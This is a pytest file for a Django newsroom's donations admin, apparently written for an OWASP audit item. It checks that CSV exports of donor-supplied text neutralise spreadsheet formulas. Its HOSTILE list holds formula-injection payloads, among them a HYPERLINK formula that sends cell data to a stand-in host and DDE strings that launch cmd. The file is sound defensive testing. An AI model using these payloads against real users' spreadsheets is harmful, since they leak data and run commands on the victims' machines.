"""CSV exports cannot carry a formula into an editor's spreadsheet (audit item 7, OWASP)."""

from __future__ import annotations

import pytest

from donations.models import Payment
from newsroom.spreadsheets import safe_cell
from tests.donations.factories import PaidDonationFactory, PaymentFactory
from tests.donations.test_admin import _csv, editor_client  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ana Reyes", "spring-2026", "", 2500, -3, None])
def test_ordinary_values_pass_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", HOSTILE)
def test_donor_supplied_text_in_both_exports_is_neutralised(editor_client, text):  # noqa: F811
    donation = PaidDonationFactory(donor_name=text, source=text, campaign=text, message=text)
    PaymentFactory(donation=donation, stripe_id="pi_hostile")

    donations = editor_client.post(
        "/admin/donations/donation/",
        {"action": "export_csv", "_selected_action": [donation.pk]},
    )
    payments = editor_client.post(
        "/admin/donations/payment/",
        {
            "action": "export_csv",
            "_selected_action": list(Payment.objects.values_list("pk", flat=True)),
        },
    )

    cells = [value for row in _csv(donations) + _csv(payments) for value in row.values()]
    donor_cells = [value for value in cells if value and text.strip() in value]
    assert donor_cells, "the donor's text should be in the exports"
    for value in donor_cells:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
